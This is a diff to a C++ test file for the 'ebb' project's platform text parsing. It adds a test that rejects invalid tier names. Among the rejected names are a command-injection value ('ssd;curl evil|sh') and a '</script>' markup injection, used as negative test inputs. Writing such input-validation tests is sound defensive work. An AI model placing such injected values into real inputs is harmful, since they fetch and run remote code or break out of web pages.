@@ -9,6 +9,7 @@
 #include <string>
 #include <vector>
 
+#include "ebb/plan/tier_words.h"
 #include "tests/message_of.h"
 
 namespace ebb::test::text_test {
@@ -107,7 +108,7 @@ TEST(PlatformText, ReadsAllOfIt) {
 
 TEST(PlatformText, ReadsBackWhatItWrites) {
   Platform platform{
-      "box", 12345, {{"a", 1, 0.1, 2.5e9, 1e-7, 3, false}, {"b\"c", kUnlimited, 7, 8, 0, 0, true}}};
+      "box", 12345, {{"a", 1, 0.1, 2.5e9, 1e-7, 3, false}, {"b.c", kUnlimited, 7, 8, 0, 0, true}}};
   platform.copy_rate = 3.25e9;
   EXPECT_EQ(platform_from_json(to_json(platform)), platform);
   platform = Platform{"", kUnlimited, {Tier{.name = "free"}}};
@@ -130,9 +131,26 @@ TEST(PlatformText, SaysWhatIsWrongAndWhere) {
   EXPECT_THAT(platform_message(R"({"tiers":[{"name":"a"},{"name":"a"}]})"),
               HasSubstr("two tiers are named 'a'"));
   EXPECT_THAT(platform_message(R"({"tiers":[{"name":"fast"}]})"),
-              HasSubstr("other than 'work' and 'fast'"));
+              HasSubstr("platform: tier 0 is named 'fast'"));
   EXPECT_THAT(platform_message(R"({"tiers":[{"name":"a","duplex":"no"}]})"),
               HasSubstr("true or false"));
+}
+
+// A name stands in commands and pages: what --tier refuses no file may bring in.
+TEST(PlatformText, TakesOnlyNamesThatACommandLineTakes) {
+  for (const std::string name : {"", "work", "2nd", "my disk", "ssd;curl evil|sh", "</script>"}) {
+    const std::string named = R"({"tiers":[{"name":"disk"},{"name":")" + name + R"("}]})";
+    EXPECT_THAT(platform_message(named.c_str()),
+                HasSubstr("platform: tier 1 is named '" + name + "'; a name begins with a letter"));
+    EXPECT_THAT(message_of([&named] {
+                  question_from_json(R"({"chain":{"repeat":1,"step":{}},"options":{},"platform":)" +
+                                     named + "}");
+                }),
+                HasSubstr("tier 1 is named '" + name + "'"));
+    EXPECT_THAT(message_of([&name] { split_tier("tier", name + ":slots=3"); }),
+                HasSubstr("tier is named '" + name + "'; a name begins with a letter"));
+  }
+  EXPECT_EQ(platform_from_json(R"({"tiers":[{"name":"Disk-2.b_c"}]})").tiers[0].name, "Disk-2.b_c");
 }
 
 TEST(ActionText, IsOneObjectEach) {
